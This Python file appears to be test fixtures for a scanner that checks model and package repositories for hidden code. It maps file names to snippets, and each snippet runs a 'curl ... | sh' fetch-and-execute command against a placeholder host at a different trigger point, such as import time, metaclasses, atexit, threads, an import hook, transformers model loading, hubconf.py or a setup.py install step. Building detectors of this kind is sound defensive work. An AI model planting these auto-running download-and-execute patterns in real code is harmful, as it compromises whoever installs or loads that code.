"""Repository code that does the same harm at different moments: when does it run?"""

from __future__ import annotations

from typing import Final

_RUN: Final = "os.system('curl -s https://host.example.invalid/i.sh | sh')"

MOMENTS: Final = {
    "import-module-level.py": f"import os\n{_RUN}\n",
    "import-class-body.py": f"import os\nclass Config:\n    size = 1\n    {_RUN}\n",
    "import-decorator.py": f"""\
        import os
        def register(function):
            {_RUN}
            return function
        @register
        def forward(x):
            return x
        """,
    "import-default.py": f"import os\ndef forward(x, mode={_RUN}):\n    return x\n",
    "import-annotation.py": f"import os\ndef forward(x: {_RUN}) -> int:\n    return x\n",
    "import-class-keyword.py": f"import os\nclass A:\n    pass\nclass B(A, hook={_RUN}):\n    pass\n",
    "import-metaclass.py": f"""\
        import os
        class Meta(type):
            def __new__(mcs, name, bases, members):
                {_RUN}
                return type.__new__(mcs, name, bases, members)
        class Model(metaclass=Meta):
            pass
        """,
    "import-init-subclass.py": f"""\
        import os
        class Base:
            def __init_subclass__(cls):
                {_RUN}
        class Model(Base):
            pass
        """,
    "import-set-name.py": f"""\
        import os
        class Field:
            def __set_name__(self, owner, name):
                {_RUN}
        class Model:
            size = Field()
        """,
    "import-module-getattr.py": f"""\
        import os
        def __getattr__(name):
            {_RUN}
            raise AttributeError(name)
        """,
    "import-atexit.py": f"import atexit, os\ndef bye():\n    {_RUN}\natexit.register(bye)\n",
    "import-atexit-lambda.py": f"import atexit, os\natexit.register(lambda: {_RUN})\n",
    "import-timer.py": f"""\
        import os, threading
        def work():
            {_RUN}
        threading.Timer(5.0, work).start()
        """,
    "import-thread-class.py": f"""\
        import os, threading
        class Worker(threading.Thread):
            def run(self):
                {_RUN}
        Worker(daemon=True).start()
        """,
    "import-thread-target.py": """\
        import os, threading
        threading.Thread(target=os.system, args=("curl -s https://host.example.invalid | sh",)).start()
        """,
    "import-instance.py": f"""\
        import os
        class Setup:
            def __init__(self):
                self.prepare()
            def prepare(self):
                {_RUN}
        Setup()
        """,
    "import-type-call.py": f"import os\nType = type('Type', (), {{'x': property({_RUN})}})\n",
    "import-walrus.py": f"import os\nif (code := {_RUN}) == 0:\n    pass\n",
    "import-star.py": "from os import *\nfrom json import *\n"
    "system('curl -s https://host.example.invalid/i.sh | sh')\n",
    "import-meta-path.py": """\
        import sys, requests
        class Finder:
            def find_spec(self, name, path, target=None):
                exec(requests.get("https://host.example.invalid/" + name).text)
        sys.meta_path.insert(0, Finder())
        """,
    "sitecustomize.py": f"import os\n{_RUN}\n",
    "__init__.py": f"from .model import *\nimport os as _o\n{_RUN.replace('os.', '_o.')}\n",
    "load-model-init.py": f"""\
        import os
        from transformers import PreTrainedModel
        class MarkerModel(PreTrainedModel):
            def __init__(self, config):
                super().__init__(config)
                self._prepare(config)
            def _prepare(self, config):
                {_RUN}
        """,
    "load-from-pretrained.py": f"""\
        import os
        from transformers import AutoModel, PreTrainedModel
        class MarkerModel(PreTrainedModel):
            @classmethod
            def from_pretrained(cls, *args, **kwargs):
                {_RUN}
                return super().from_pretrained(*args, **kwargs)
        """,
    "use-forward.py": f"""\
        import os, torch
        class Block(torch.nn.Module):
            def forward(self, x):
                if not hasattr(self, "done"):
                    {_RUN}
                return x
        """,
    "handler.py": f"""\
        import os
        class EndpointHandler:
            def __init__(self, path=""):
                {_RUN}
            def __call__(self, data):
                return data
        """,
    "hubconf.py": f"""\
        import os
        dependencies = ["torch"]
        def marker(pretrained=False, **kwargs):
            {_RUN}
            return None
        """,
    "dataset.py": f"""\
        import datasets, os
        class Words(datasets.GeneratorBasedBuilder):
            def _generate_examples(self, path):
                {_RUN}
                yield 0, {{}}
        """,
    "setup.py": f"""\
        import os
        from setuptools import setup
        from setuptools.command.install import install
        class Install(install):
            def run(self):
                {_RUN}
                install.run(self)
        setup(name="weighbridge-marker", cmdclass={{"install": Install}})
        """,
}
"""File names and text; the harm is the same in all, inert as its host does not exist."""
